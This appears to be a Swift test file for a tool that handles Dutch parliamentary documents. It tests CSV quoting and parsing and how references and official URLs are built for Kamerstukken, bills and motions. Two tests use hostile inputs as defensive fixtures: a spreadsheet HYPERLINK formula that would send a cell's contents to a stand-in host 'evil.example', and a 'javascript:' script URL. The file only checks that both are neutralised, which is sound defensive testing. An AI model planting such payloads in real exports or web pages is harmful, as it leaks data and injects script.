import Core
import Deeds
import Foundation
import Publishing
import TestSupport
import Testing

@Suite("CSV as RFC 4180 has it, and how a deed is referred to")
struct CSVTests {
    @Test("Fields with a comma, a quote or a line break are quoted; every record ends with CRLF")
    func quoting() throws {
        var table = CSVTable(header: ["id", "title"])
        table.append(["kst-30950-440", "Motie van het lid Bamenga c.s."])
        table.append(["kst-1", "banken, toezichthouders"])
        table.append(["kst-2", "de \"Fraudescorekaart\"\nop twee regels"])
        let text = table.render()
        #expect(
            text
                == "id,title\r\nkst-30950-440,Motie van het lid Bamenga c.s.\r\nkst-1,\"banken, toezichthouders\"\r\nkst-2,\"de \"\"Fraudescorekaart\"\"\nop twee regels\"\r\n"
        )
        #expect(
            try CSVReader.records(text) == [
                ["id", "title"], ["kst-30950-440", "Motie van het lid Bamenga c.s."],
                ["kst-1", "banken, toezichthouders"], ["kst-2", "de \"Fraudescorekaart\"\nop twee regels"],
            ])
    }

    @Test("A text a spreadsheet would run as a formula gets a leading quote; numbers stay numbers")
    func formulas() {
        #expect(
            CSVTable.field("=HYPERLINK(\"https://evil.example/?\"&B2,\"Motie\")")
                == "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"Motie\"\")\"")
        #expect(CSVTable.field("+31 20") == "'+31 20")
        #expect(CSVTable.field("@SUM(A1)") == "'@SUM(A1)")
        #expect(CSVTable.field("-1.00") == "-1.00")
        #expect(CSVTable.field("-0.05") == "-0.05")
        #expect(CSVTable.field("Motie van het lid Baudet") == "Motie van het lid Baudet")
    }

    @Test("The strict reader refuses what RFC 4180 does not allow")
    func strictReader() {
        #expect(throws: CSVReader.Malformed.self) { try CSVReader.records("a,b\n1,2\n") }
        #expect(throws: CSVReader.Malformed.self) { try CSVReader.records("a,b\r\n1,2") }
        #expect(throws: CSVReader.Malformed.self) { try CSVReader.records("a,b\r\n1,x\"y\r\n") }
        #expect(throws: CSVReader.Malformed.self) { try CSVReader.records("a,b\r\n1\r\n") }
    }

    @Test("A bill, which has no day of its own, is named by the day of its latest dated step")
    func billDay() throws {
        // The bill of the Kieswet dossier 36554 as the VLOS list of 3 July 2025 shows it (no dated step), then with
        // the step of a derived Staatsblad law of 1 December 2025.
        var bill = try #require(
            try Fixtures.read(Fixtures.vlos("be33e3cf")).deeds.first { $0.id == "wetsvoorstel:36554" })
        #expect(bill.day == nil)
        #expect(DeedReference.day(bill) == nil)
        bill.stages.append(Deed.Stage(step: .staatsblad, date: Day("2025-12-01"), document: "stb-afgeleid"))
        #expect(DeedReference.day(bill) == Day("2025-12-01"))
        let motion = try #require(try Fixtures.read(Fixtures.kamerstuk("kst-30950-440")).deeds.first)
        #expect(DeedReference.day(motion) == Day("2025-03-19"))
    }

    @Test("A deed is referred to by its Kamerstuk, Staatsblad or zaak number and its official address")
    func references() throws {
        #expect(DeedReference.number(id: "kst-30950-458") == "Kamerstuk 30950, nr. 458")
        #expect(DeedReference.number(id: "kst-21501-02-3234") == "Kamerstuk 21501-02, nr. 3234")
        #expect(DeedReference.number(id: "stb-2018-84") == "Staatsblad 2018, 84")
        #expect(DeedReference.number(id: "h-tk-20172018-61-10") == "Handelingen II 2017/18, nr. 61, item 10")
        #expect(DeedReference.number(id: "h-ek-20112012-37-21") == "Handelingen I 2011/12, nr. 37, item 21")
        #expect(DeedReference.number(id: "tk:zaak:2025Z12826") == "zaak 2025Z12826")
        #expect(DeedReference.number(id: "wetsvoorstel:36554") == "Kamerstukdossier 36554")
        #expect(DeedReference.number(id: "gemeente:den-helder:19110") == "gemeente Den Helder, nr. 19110")
        #expect(DeedReference.number(id: "gemeente:utrecht:motie-94-2024") == "gemeente Utrecht")
        #expect(
            DeedReference.number(id: "tk:activiteit:2025A04940:toezegging:1") == "toezegging 1 in activiteit 2025A04940"
        )
        #expect(
            DeedReference.url(id: "kst-21501-02-3234")
                == "https://zoek.officielebekendmakingen.nl/kst-21501-02-3234.html")
        #expect(DeedReference.url(id: "tk:activiteit:2025A04940") == nil)
        #expect(DeedReference.url(id: "wetsvoorstel:36554") == nil)
        // A Kamerstuk read from a VLOS report has no URL of its own: its id names its officielebekendmakingen page.
        let report = try Fixtures.read(Fixtures.vlos("be33e3cf"))
        let letter = try #require(report.deeds.first { $0.id == "kst-30950-458" })
        #expect(letter.source.url == nil)
        #expect(DeedReference.url(letter) == "https://zoek.officielebekendmakingen.nl/kst-30950-458.html")
        #expect(DeedReference.number(letter) == "Kamerstuk 30950, nr. 458 (zaak 2025Z12826)")
        // A source URL that is no web address (a script link a database stored before readers refused it) is never
        // given: the official page its id names instead, or nothing.
        var scripted = letter
        scripted.source.url = "JaVaScRiPt:alert(document.domain)//"
        #expect(DeedReference.url(scripted) == "https://zoek.officielebekendmakingen.nl/kst-30950-458.html")
        scripted.id = "gemeente:den-helder:19110"
        #expect(DeedReference.url(scripted) == nil)
    }
}
